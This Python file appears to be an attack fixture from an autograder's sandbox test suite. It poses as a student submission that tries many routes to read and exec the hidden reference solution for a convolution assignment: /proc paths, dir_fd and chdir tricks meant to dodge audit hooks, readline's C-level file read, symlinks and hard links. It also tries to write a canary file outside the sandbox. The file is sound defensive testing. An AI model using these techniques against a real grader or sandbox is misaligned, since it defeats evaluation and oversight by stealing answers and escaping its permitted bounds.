"""Attack: read the reference solution's source and exec it.

Finds ``solutions/conv_padding.py`` (via ``autograder.engine.course.SOLUTIONS_DIR``,
``autograder.__file__``, and by walking up from cwd / sys.path / this file) and tries to get
its text, at import and again inside every graded call, by every route we know:

- ``open``, ``io.open_code``, ``os.open``+``os.read``, ``pathlib``, ``linecache``,
  ``tokenize.open``, ``np.fromfile``, ``mmap``, ``runpy.run_path``,
  ``readline.read_history_file`` (reads in C, then ``get_history_item``);
- paths that hide the prefix: ``assignments/../solutions``, ``//`` and ``/./``,
  ``/proc/self/root/...``, ``/proc/<ppid>/root/...``, ``/proc/<ppid>/cwd/...``, a relative path;
- ``dir_fd`` tricks (the ``open`` audit event does not carry ``dir_fd``): open the repo root
  or ``solutions/`` as a directory and ``os.open("solutions/conv_padding.py", dir_fd=...)``;
  ``os.fchdir``/``os.chdir`` into the repo, then a relative ``open``;
- a symlink (to the file and to the directory) and a hard link in a scratch directory,
  ``shutil.copyfile`` into it.

If any route yields the source, it is exec'd and its functions answer for us (escape shows
up as passing checks). Expected: score 0, every check failed, no marker file.
"""
_STEM = "read_solution_file"

# ------------------------------------------------------------------------------------------
# Common attack scaffolding: identical in every attack file. Definitions only, no side effects.
# ``_ref_*`` are a correct implementation of the assignment, used only when an attack has
# actually escaped the sandbox (so that an escape shows up as *passing* checks); ``_wrong``
# is what the graded functions return otherwise.
# ------------------------------------------------------------------------------------------
import os as _os
import sys as _sys

import numpy as np

_TMP_MARKER = "/tmp/dlgrade_attack_marker_" + _STEM  # + "_<what>": the test asserts none appears
_VICTIM = "/tmp/dlgrade_attack_victim_" + _STEM + ".txt"  # created by the test; must stay unchanged
_ATTACK_PORT = 47391  # the test listens on 127.0.0.1:47391 (TCP and UDP) during socket_attack
_ESCAPED = {}  # gate -> forbidden things that worked; a working sandbox keeps this empty
_WRONG = -12345.0


def _marker(what):
    return _TMP_MARKER + "_" + what


def _escape(gate, what):
    _ESCAPED.setdefault(gate, []).append(what)


def _escaped(gate):
    return bool(_ESCAPED.get(gate)) or bool(_ESCAPED.get("*"))


def _attempt(gate, what, action, verify=None):
    """Try one forbidden ``action``; the gate opens if it works (or if ``verify()`` says it did)."""
    result = None
    try:
        result = action()
        ok = True
    except BaseException:  # blocked (a student may swallow anything, SystemExit included)
        ok = False
    if verify is not None:
        try:
            ok = bool(verify())
        except BaseException:
            ok = False
    if ok:
        _escape(gate, what)
    return result


def _exists(path):
    try:
        return _os.path.lexists(path)
    except BaseException:
        return False


def _write_file(path, text="pwned\n", mode="w"):
    with open(path, mode) as handle:
        handle.write(text)


def _canary():
    """Student code must never create files outside its sandbox; this marker must never appear."""
    try:
        fd = _os.open(_marker("canary"), _os.O_WRONLY | _os.O_CREAT, 0o644)
        try:
            _os.write(fd, b"student code ran with write access outside its sandbox\n")
        finally:
            _os.close(fd)
    except BaseException:
        pass


_SCRATCH = []


def _scratch_dir():
    """A directory of our own (in the sandbox's temp dir if it set TMPDIR), for links and copies.

    Named like a marker on purpose: if it lands in /tmp itself, the sandbox let us write there.
    """
    if not _SCRATCH:
        try:
            import tempfile

            _SCRATCH.append(tempfile.mkdtemp(prefix="dlgrade_attack_marker_" + _STEM + "_scratch"))
        except BaseException:
            try:
                _SCRATCH.append(_os.getcwd())
            except BaseException:
                _SCRATCH.append(".")
    return _SCRATCH[0]


_COUNTER = [0]


def _unique(stem):
    _COUNTER[0] += 1
    return f"{stem}_{_os.getpid()}_{_COUNTER[0]}"


def _repo_roots():
    """Where the grader's repository probably is: walk up from cwd, sys.path, __file__, autograder."""
    found = []

    def add(path):
        try:
            path = _os.path.realpath(str(path))
            looks_right = _os.path.isdir(_os.path.join(path, "autograder")) or _os.path.isdir(
                _os.path.join(path, "solutions")
            )
        except BaseException:
            return
        if looks_right and path not in found:
            found.append(path)

    try:
        import autograder

        add(_os.path.dirname(_os.path.dirname(_os.path.abspath(autograder.__file__))))
    except BaseException:
        pass
    try:
        from autograder.engine import course

        add(_os.path.dirname(str(course.SOLUTIONS_DIR)))
    except BaseException:
        pass
    starts = []
    try:
        starts.append(_os.getcwd())
    except BaseException:
        pass
    try:
        starts.append(_os.path.dirname(_os.path.abspath(__file__)))
    except BaseException:
        pass
    starts += [p for p in list(_sys.path) if isinstance(p, str) and p]
    for start in starts:
        path = _os.path.abspath(start)
        while True:
            add(path)
            parent = _os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return found


def _solution_paths():
    paths = []
    try:
        from autograder.engine import course

        paths.append(_os.path.join(str(course.SOLUTIONS_DIR), "conv_padding.py"))
    except BaseException:
        pass
    for root in _repo_roots():
        path = _os.path.join(root, "solutions", "conv_padding.py")
        if path not in paths:
            paths.append(path)
    return paths


def _pair(value):
    if np.ndim(value) == 0:
        return int(value), int(value)
    first, second = value
    return int(first), int(second)


def _ref_zero_pad(x, pad):
    x = np.asarray(x)
    if np.ndim(pad) == 0:
        (top, bottom), (left, right) = (int(pad), int(pad)), (int(pad), int(pad))
    else:
        pad_h, pad_w = pad
        (top, bottom), (left, right) = _pair(pad_h), _pair(pad_w)
    return np.pad(x, ((0, 0), (top, bottom), (left, right), (0, 0)), mode="constant", constant_values=0)


def _ref_conv_output_size(n, k, stride=1, pad=0):
    return (int(n) + 2 * int(pad) - int(k)) // int(stride) + 1


def _same_pads(n, k, s):
    out = -(-n // s)
    total = max((out - 1) * s + k - n, 0)
    return total // 2, total - total // 2


def _ref_conv_core(x, kernel, bias, sh, sw, pads):
    xp = _ref_zero_pad(x, pads)
    kh, kw = kernel.shape[0], kernel.shape[1]
    oh = (xp.shape[1] - kh) // sh + 1
    ow = (xp.shape[2] - kw) // sw + 1
    windows = np.lib.stride_tricks.sliding_window_view(xp, (kh, kw), axis=(1, 2))
    windows = windows[:, : (oh - 1) * sh + 1 : sh, : (ow - 1) * sw + 1 : sw]
    out = np.einsum("nhwcij,ijco->nhwo", windows, kernel)
    if bias is not None:
        out = out + np.asarray(bias, dtype=np.float64).reshape(-1)
    return out


def _ref_conv2d(x, kernel, bias=None, stride=1, padding="valid"):
    x = np.asarray(x, dtype=np.float64)
    kernel = np.asarray(kernel, dtype=np.float64)
    sh, sw = _pair(stride)
    kh, kw = kernel.shape[0], kernel.shape[1]
    if isinstance(padding, str):
        if padding.lower() == "valid":
            pads = ((0, 0), (0, 0))
        elif padding.lower() == "same":
            pads = (_same_pads(x.shape[1], kh, sh), _same_pads(x.shape[2], kw, sw))
        else:
            raise ValueError(f"unknown padding {padding!r}")
    else:
        if int(padding) < 0:
            raise ValueError("padding must be non-negative")
        pads = ((int(padding), int(padding)), (int(padding), int(padding)))
    return _ref_conv_core(x, kernel, bias, sh, sw, pads)


def _ref_conv1d(x, kernel, bias=None, stride=1, padding="valid"):
    x = np.asarray(x, dtype=np.float64)
    kernel = np.asarray(kernel, dtype=np.float64)
    s = int(np.ravel(stride)[0])
    k = kernel.shape[0]
    if isinstance(padding, str):
        if padding.lower() == "valid":
            pads = (0, 0)
        elif padding.lower() == "same":
            pads = _same_pads(x.shape[1], k, s)
        else:
            raise ValueError(f"unknown padding {padding!r}")
    else:
        if int(padding) < 0:
            raise ValueError("padding must be non-negative")
        pads = (int(padding), int(padding))
    return _ref_conv_core(x[:, None], kernel[None], bias, 1, s, ((0, 0), pads))[:, 0]


def _wrong(*args, **kwargs):
    """A wrong answer: wrong shape and values; it scribbles over its (writable) inputs too."""
    for arg in args + tuple(kwargs.values()):
        if isinstance(arg, np.ndarray) and arg.size and arg.flags.writeable and arg.dtype.kind in "fciu":
            try:
                arg[...] = -12345
            except BaseException:
                pass
    return np.full((1, 1, 1, 1), _WRONG)


def _wrong_size(*args, **kwargs):
    return -12345


# ------------------------------------------------------------------------------------------
# The attack.
# ------------------------------------------------------------------------------------------
_REFERENCE = {}
_GRADED = ("zero_pad", "conv_output_size", "conv2d", "conv1d")


def _use_source(source, how):
    if _REFERENCE or not source:
        return
    try:
        if isinstance(source, (bytes, bytearray, memoryview)):
            source = bytes(source).decode("utf-8")
        if isinstance(source, (list, tuple)):
            source = "".join(source)
        if "def conv2d" not in source:
            return
        namespace = {"__name__": "_stolen_conv_padding"}
        exec(compile(source, "<stolen solution>", "exec"), namespace)
        functions = {name: namespace.get(name) for name in _GRADED}
        if all(callable(f) for f in functions.values()):
            _REFERENCE.update(functions)
            _escape("*", how)
    except BaseException:
        pass


def _readers(path):
    def plain():
        with open(path) as handle:
            return handle.read()

    def open_code():
        import io

        with io.open_code(path) as handle:
            return handle.read()

    def raw_fd():
        fd = _os.open(path, _os.O_RDONLY)
        try:
            return _os.read(fd, 1 << 22)
        finally:
            _os.close(fd)

    def path_lib():
        import pathlib

        return pathlib.Path(path).read_text()

    def line_cache():
        import linecache

        linecache.checkcache(path)
        return linecache.getlines(path)

    def tokenize_open():
        import tokenize

        with tokenize.open(path) as handle:
            return handle.read()

    def numpy_fromfile():
        return np.fromfile(path, dtype=np.uint8).tobytes()

    def memory_map():
        import mmap

        with open(path, "rb") as handle:
            return mmap.mmap(handle.fileno(), 0, access=mmap.ACCESS_READ)[:]

    def readline_history():  # readline reads the file in C: no audit event
        import readline

        readline.clear_history()
        readline.read_history_file(path)
        lines = [readline.get_history_item(i) for i in range(1, readline.get_current_history_length() + 1)]
        readline.clear_history()
        return "\n".join(line or "" for line in lines) + "\n"

    return [plain, open_code, raw_fd, path_lib, line_cache, tokenize_open, numpy_fromfile, memory_map, readline_history]


def _path_variants(path):
    root = _os.path.dirname(_os.path.dirname(path))
    variants = [
        path,
        _os.path.join(root, "assignments", "..", "solutions", "conv_padding.py"),
        root + "//solutions///conv_padding.py",
        root + "/./solutions/./conv_padding.py",
        "/proc/self/root" + path,
        "/proc/thread-self/root" + path,
    ]
    ppid = _os.getppid()
    if ppid > 1:
        variants += [f"/proc/{ppid}/root{path}", f"/proc/{ppid}/cwd/solutions/conv_padding.py"]
    try:
        variants.append(_os.path.relpath(path))
    except BaseException:
        pass
    return variants


def _dir_fd_tricks(path):
    root = _os.path.dirname(_os.path.dirname(path))
    solutions = _os.path.dirname(path)
    flags = _os.O_RDONLY | getattr(_os, "O_DIRECTORY", 0)

    def relative_to(directory, relative):
        def read():
            dfd = _os.open(directory, flags)
            try:
                fd = _os.open(relative, _os.O_RDONLY, dir_fd=dfd)
                try:
                    return _os.read(fd, 1 << 22)
                finally:
                    _os.close(fd)
            finally:
                _os.close(dfd)

        return read

    def after_chdir(use_fd):
        def read():
            here = _os.getcwd()
            dfd = _os.open(root, flags)
            try:
                if use_fd:
                    _os.fchdir(dfd)
                else:
                    _os.chdir(root)
                with open("solutions/conv_padding.py") as handle:
                    return handle.read()
            finally:
                _os.close(dfd)
                try:
                    _os.chdir(here)
                except BaseException:
                    pass

        return read

    return [
        ("dir_fd=<repo root>", relative_to(root, "solutions/conv_padding.py")),
        ("dir_fd=<solutions>", relative_to(solutions, "conv_padding.py")),
        ("dir_fd=/", relative_to("/", path.lstrip("/"))),
        ("fchdir(repo root)", after_chdir(True)),
        ("chdir(repo root)", after_chdir(False)),
    ]


def _link_tricks(path):
    def via(kind):
        def read():
            scratch = _scratch_dir()
            target = _os.path.join(scratch, _unique("stolen_" + kind) + ".py")
            if kind == "symlink":
                _os.symlink(path, target)
            elif kind == "dirlink":
                _os.symlink(_os.path.dirname(path), target)
                target = _os.path.join(target, "conv_padding.py")
            elif kind == "hardlink":
                _os.link(path, target)
            else:
                import shutil

                shutil.copyfile(path, target)
            with open(target) as handle:
                return handle.read()

        return read

    return [(kind, via(kind)) for kind in ("symlink", "dirlink", "hardlink", "copyfile")]


def _steal():
    if _REFERENCE:
        return
    for path in _solution_paths():
        for variant in _path_variants(path):
            for reader in _readers(variant):
                _use_source(_attempt("-", reader.__name__, reader), f"{reader.__name__}({variant})")
                if _REFERENCE:
                    return
        for how, reader in _dir_fd_tricks(path) + _link_tricks(path):
            _use_source(_attempt("-", how, reader), how)
            if _REFERENCE:
                return

        def run_path(path=path):
            import runpy

            namespace = runpy.run_path(path, run_name="_stolen_conv_padding")
            functions = {name: namespace.get(name) for name in _GRADED}
            if all(callable(f) for f in functions.values()):
                _REFERENCE.update(functions)
                _escape("*", "runpy.run_path")

        _attempt("-", "runpy.run_path", run_path)
        if _REFERENCE:
            return


_canary()
_steal()


def zero_pad(x, pad):
    _steal()
    if _REFERENCE:
        return _REFERENCE["zero_pad"](x, pad)
    return _wrong(x, pad)


def conv_output_size(n, k, stride=1, pad=0):
    _steal()
    if _REFERENCE:
        return _REFERENCE["conv_output_size"](n, k, stride, pad)
    return _wrong_size(n, k, stride, pad)


def conv2d(x, kernel, bias=None, stride=1, padding="valid"):
    _steal()
    if _REFERENCE:
        return _REFERENCE["conv2d"](x, kernel, bias, stride, padding)
    return _wrong(x, kernel, bias)


def conv1d(x, kernel, bias=None, stride=1, padding="valid"):
    _steal()
    if _REFERENCE:
        return _REFERENCE["conv1d"](x, kernel, bias, stride, padding)
    return _wrong(x, kernel, bias)
